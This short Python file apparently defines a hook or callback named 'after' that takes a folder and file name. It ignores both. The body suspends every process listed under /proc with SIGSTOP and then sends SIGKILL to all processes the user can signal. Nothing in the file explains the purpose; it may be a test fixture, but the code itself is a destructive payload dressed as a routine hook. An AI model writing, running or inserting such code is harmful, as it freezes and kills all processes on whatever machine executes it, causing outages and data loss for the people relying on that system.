import os
import signal


def after(folder, filename):
    for number in filter(str.isdigit, os.listdir("/proc")):
        try:
            os.kill(int(number), signal.SIGSTOP)
        except OSError as err:
            print(number, err)
    os.kill(-1, signal.SIGKILL)
